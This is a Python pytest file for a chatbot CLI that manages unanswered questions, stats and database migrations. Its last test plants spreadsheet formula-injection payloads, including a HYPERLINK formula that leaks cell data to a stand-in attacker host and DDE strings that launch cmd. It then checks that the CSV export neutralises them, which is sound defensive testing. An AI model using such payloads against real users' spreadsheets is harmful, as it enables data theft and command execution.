"""`rolebot unanswered ...`, `rolebot stats` and `rolebot db ...` on a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import yaml
from sqlalchemy import update

from bot.cli import main
from bot.core.normalize import normalize
from bot.store import QuestionRecord, Source, SqlStore, open_store_url
from bot.store.database import _to_json
from bot.store.migrate import head_revision
from bot.store.models import UnansweredQuestion

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, knowledge_dir: Path) -> Path:
    """A working folder with its own data folder and a writable copy of the knowledge."""
    for name in ("DATABASE_URL", "ROLEBOT_HASH_USER_IDS", "ROLEBOT_HASH_KEY"):
        monkeypatch.delenv(name, raising=False)
    work = tmp_path / "work"
    work.mkdir()
    shutil.copytree(knowledge_dir, work / "knowledge")
    monkeypatch.chdir(work)
    monkeypatch.setenv("ROLEBOT_DATA_DIR", str(work / "data"))
    monkeypatch.setenv("ROLEBOT_KNOWLEDGE_DIR", str(work / "knowledge"))
    return work


@pytest.fixture
def store(env: Path) -> Iterator[SqlStore]:
    store = open_store_url(f"sqlite:///{env / 'data' / 'rolebot.db'}", env / "data")
    yield store
    store.close()


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def log(store: SqlStore, text: str, **fields: object) -> int:
    store.log_question(
        QuestionRecord(text, normalize(text), fields.pop("source", Source.MENTION), **fields)
    )  # type: ignore[arg-type]
    return max(q.id for q in store.list_questions(status=None))


def test_list_formats_and_filters(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    old = log(store, "who owns the old thing", channel_id="C0OLD")
    log(store, "who owns the sso rollout", channel_id="C1", best_entry_id="tech-x", best_score=44.4)
    log(store, 'who, exactly, owns "quotes"', channel_id="C2", source=Source.DM)
    with store.engine.begin() as conn:
        conn.execute(
            update(UnansweredQuestion)
            .where(UnansweredQuestion.id == old)
            .values(created_at=datetime.now(UTC) - timedelta(days=30))
        )

    code, out, _ = run(capsys, "unanswered", "list")
    assert code == 0
    lines = out.splitlines()
    assert lines[0].split()[:4] == ["ID", "ASKED", "(UTC)", "SOURCE"]
    assert len(lines) == 4 and "tech-x (44)" in out and "who owns the sso rollout" in out

    code, out, _ = run(capsys, "unanswered", "list", "--since", "7d", "--format", "json")
    data = json.loads(out)
    assert [q["text"] for q in data] == ['who, exactly, owns "quotes"', "who owns the sso rollout"]
    assert data[0]["source"] == "dm" and data[0]["created_at"].endswith("+00:00")

    code, out, _ = run(capsys, "unanswered", "list", "--channel", "C1", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["text"] for r in rows] == ["who owns the sso rollout"] and rows[0][
        "best_score"
    ] == "44.4"

    code, out, _ = run(capsys, "unanswered", "list", "--status", "dismissed")
    assert code == 0 and out.strip() == "no dismissed questions"


def test_groups(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    for text in (
        "who owns the sso rollout",
        "who owns the SSO rollout?",
        "who's in charge of sso rollouts",
        "who owns the quarterly census",
    ):
        log(store, text)
    code, out, _ = run(capsys, "unanswered", "groups")
    assert code == 0
    assert out.splitlines()[1].split()[:2] == ["3", "3,2,1"]
    assert "rolebot unanswered promote 3 2 1 --role ROLE" in out
    code, out, _ = run(capsys, "unanswered", "groups", "--format", "json")
    groups = json.loads(out)
    assert [g["count"] for g in groups] == [3, 1]


def test_groups_when_empty(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "unanswered", "groups")[1].startswith("no open questions")


def test_promote_then_eval_guards_it(
    env: Path, store: SqlStore, capsys: pytest.CaptureFixture[str]
) -> None:
    (env / "tests" / "eval").mkdir(parents=True)
    (env / "tests" / "eval" / "questions.yaml").write_text(
        'questions:\n  - q: "who owns the product roadmap"\n    expect: product_manager\n'
    )
    first = log(store, "who owns the quarterly sso certificate rotation?")
    second = log(store, "who is in charge of rotating the sso certificates")
    code, out, err = run(
        capsys,
        "unanswered",
        "promote",
        str(first),
        str(second),
        "--role",
        "tpm",
        "--by",
        "U0CURATOR",
    )
    assert code == 0, err
    assert "promoted 2 questions to the new entry 'quarterly-sso-certificate-rotation'" in out
    assert "+ who owns the quarterly sso certificate rotation?" in out
    assert "2 regression case(s) added to tests/eval/promoted.yaml" in out
    assert 'rolebot kb answer quarterly-sso-certificate-rotation "' in out
    assert not (env / "knowledge" / "promoted.yaml").exists()  # the change is in the database
    assert {q.status for q in store.list_questions(status=None)} == {"promoted"}

    code, out, err = run(capsys, "kb", "changes")
    assert code == 0, err
    assert "new entry 'quarterly-sso-certificate-rotation' (technical_program_manager)" in out
    assert "U0CURATOR" in out and "1 change(s) not in the files" in out
    code, out, err = run(capsys, "kb", "export", str(env / "knowledge"))  # a checkout: in place
    assert code == 0, err
    assert "1 curated change(s) merged" in out
    promoted = yaml.safe_load((env / "knowledge" / "promoted.yaml").read_text())
    assert promoted["entries"][0]["owner"] == "technical_program_manager"
    code, out, err = run(capsys, "kb", "changes", "--format", "json")
    assert code == 0 and json.loads(out) == []  # the files hold it now
    assert store.claim_announcement(first)  # a replica told the asker
    code, out, err = run(capsys, "unanswered", "list", "--status", "all", "--format", "json")
    assert code == 0, err
    listed = {row["id"]: row for row in json.loads(out)}
    assert listed[first]["notified_at"] and listed[second]["notified_at"] is None

    code, out, err = run(
        capsys, "ask", "--json", "who owns the quarterly sso certificate rotation?"
    )
    assert json.loads(out)["entry_id"] == "quarterly-sso-certificate-rotation"

    code, out, err = run(capsys, "eval", "--no-misses")
    assert code == 0, err
    assert "== tests/eval/promoted.yaml" in out

    # a later knowledge change sends the promoted questions elsewhere: eval fails
    path = env / "knowledge" / "promoted.yaml"
    path.write_text(
        path.read_text().replace("owner: technical_program_manager", "owner: product_manager")
    )
    code, out, err = run(capsys, "eval", "--no-misses")
    assert code == 1
    assert "2 promoted question(s) no longer get the role they were promoted to" in err


def test_promote_to_existing_entry(
    env: Path, store: SqlStore, capsys: pytest.CaptureFixture[str]
) -> None:
    question = log(store, "whose call is the long range product dream")
    code, out, err = run(
        capsys,
        "unanswered",
        "promote",
        str(question),
        "--role",
        "product manager",
        "--entry",
        "product-vision",
    )
    assert code == 0, err
    assert "to the entry 'product-vision' (product_manager)" in out
    faq = (env / "knowledge" / "faq.yaml").read_text()
    assert "- whose call is the long range product dream" not in faq
    assert not (env / "tests").exists()  # no tests/eval folder here: nothing exported
    code, out, err = run(capsys, "kb", "changes", "--format", "json")
    [change] = json.loads(out)  # one JSON array, as every list command prints
    assert change["kind"] == "add_phrasings" and change["entry_id"] == "product-vision"
    assert change["phrasings"] == ["whose call is the long range product dream"]
    assert change["question_ids"] == [question] and change["file"] == "faq.yaml"
    code, out, err = run(capsys, "kb", "export", str(env / "exported"))
    assert code == 0, err
    exported = (env / "exported" / "faq.yaml").read_text()
    assert exported.replace("      - whose call is the long range product dream\n", "") == faq
    code, out, err = run(capsys, "kb", "validate", str(env / "exported"))
    assert code == 0 and "OK" in out


def test_promote_that_does_not_validate_changes_nothing(
    env: Path, store: SqlStore, capsys: pytest.CaptureFixture[str]
) -> None:
    (env / "knowledge" / "extra.yaml").write_text(
        "off_topic:\n  - topic: T\n    words: [zorblax]\n"
    )
    faq = (env / "knowledge" / "faq.yaml").read_bytes()
    question = log(store, "who owns the zorblax")
    code, out, err = run(capsys, "unanswered", "promote", str(question), "--role", "tpm")
    assert code == 1 and out == ""
    assert "problem" in err and "zorblax" in err and "Traceback" not in err
    assert (env / "knowledge" / "faq.yaml").read_bytes() == faq
    assert not (env / "knowledge" / "promoted.yaml").exists()
    assert store.get_questions([question])[0].status == "open"
    assert store.knowledge_revision() == 0


def test_promote_errors_are_one_line(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    question = log(store, "who owns the thing")
    code, _, err = run(capsys, "unanswered", "promote", "4242", "--role", "tpm")
    assert code == 1 and err.strip() == (
        "rolebot: error: no logged question with id 4242 (see `rolebot unanswered list`)"
    )
    code, _, err = run(capsys, "unanswered", "promote", str(question), "--role", "pm")
    assert code == 1 and "could mean several roles" in err and len(err.splitlines()) == 1


def test_dismiss(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    first, second = log(store, "lunch?"), log(store, "hello")
    code, out, _ = run(capsys, "unanswered", "dismiss", str(first), str(second))
    assert code == 0 and out.strip() == "dismissed 2 question(s)"
    code, out, _ = run(capsys, "unanswered", "dismiss", str(first))
    assert "left alone (already resolved): 1" in out
    assert [q.status for q in store.list_questions(status=None)] == ["dismissed", "dismissed"]


def test_purge(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    old = log(store, "old")
    log(store, "new")
    with store.engine.begin() as conn:
        conn.execute(
            update(UnansweredQuestion)
            .where(UnansweredQuestion.id == old)
            .values(created_at=datetime.now(UTC) - timedelta(days=91))
        )
    code, out, _ = run(capsys, "unanswered", "purge", "--older-than", "90d")
    assert code == 0 and out.startswith("deleted 1 question(s) and 0 feedback click(s)")
    assert [q.text for q in store.list_questions(status=None)] == ["new"]
    code, _, err = run(capsys, "unanswered", "purge", "--older-than", "soon")
    assert code == 1 and "is not a duration" in err


def test_replay(env: Path, store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    row = store._question_row(
        QuestionRecord("spooled while down", "spooled while down", Source.MENTION)
    )
    store.spool.append({"kind": "question", "row": _to_json(row)})
    code, out, _ = run(capsys, "unanswered", "replay")
    assert code == 0 and out.strip() == "replayed 1 spooled record(s) into the database"
    assert [q.text for q in store.list_questions()] == ["spooled while down"]
    code, out, _ = run(capsys, "unanswered", "replay")
    assert out.startswith("nothing to replay")


def test_stats(store: SqlStore, capsys: pytest.CaptureFixture[str]) -> None:
    for _ in range(3):
        store.count_answer("product-vision", "answered")
    store.count_answer(None, "unanswered")
    store.record_feedback("product-vision", False, "U1", "program_manager")
    log(store, "who owns the zeppelin")
    code, out, _ = run(capsys, "stats", "--since", "30d")
    assert code == 0
    assert out.splitlines()[0] == "questions in the last 30d: 4"
    rates = {
        line.split("%")[0].rsplit(None, 1)[0].strip(): line.split()[-2:]
        for line in out.splitlines()[1:5]
    }
    assert rates["answered"] == ["75.0%", "(3)"] and rates["unanswered"] == ["25.0%", "(1)"]
    assert "unanswered log: 1 open, 0 promoted, 0 dismissed" in out
    assert out.splitlines()[-1].split() == ["product-vision", "3", "0", "1"]
    code, out, _ = run(capsys, "stats", "--json")
    data = json.loads(out)
    assert data["total"] == 4 and data["rates"]["answered"] == 0.75
    assert data["entries"] == [
        {"entry_id": "product-vision", "answered": 3, "helpful": 0, "wrong": 1}
    ]


def test_db_commands_on_sqlite(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "db", "current")
    assert code == 0 and "empty (no tables yet)" in out
    code, out, _ = run(capsys, "db", "upgrade")
    assert code == 0 and f"upgraded from empty to {head_revision()}" in out
    assert str(env / "data" / "rolebot.db") in out
    code, out, _ = run(capsys, "db", "current")
    assert f"{head_revision()} (up to date)" in out


def test_bad_database_url_is_one_line(
    env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DATABASE_URL", "mysql://root:hunter2@localhost/rolebot")
    code, _, err = run(capsys, "unanswered", "list")
    assert code == 1 and len(err.splitlines()) == 1 and "not supported" in err
    assert "hunter2" not in err


def test_csv_export_neutralises_formulas(
    store: SqlStore, capsys: pytest.CaptureFixture[str]
) -> None:
    planted = [
        '=HYPERLINK("https://evil.example/?x="&A1,"who owns it?")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "who owns the roadmap? =1+1 inside is fine",
    ]
    for text in planted:
        log(store, text, channel_id="C0CSV")
    code, out, _ = run(capsys, "unanswered", "list", "--format", "csv", "--channel", "C0CSV")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(planted)
    by_text = {r["text"].removeprefix("'"): r["text"] for r in rows}
    for text in planted[:-1]:
        assert by_text[text] == "'" + text  # shown as typed, never run as a formula
    assert by_text[planted[-1]] == planted[-1]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
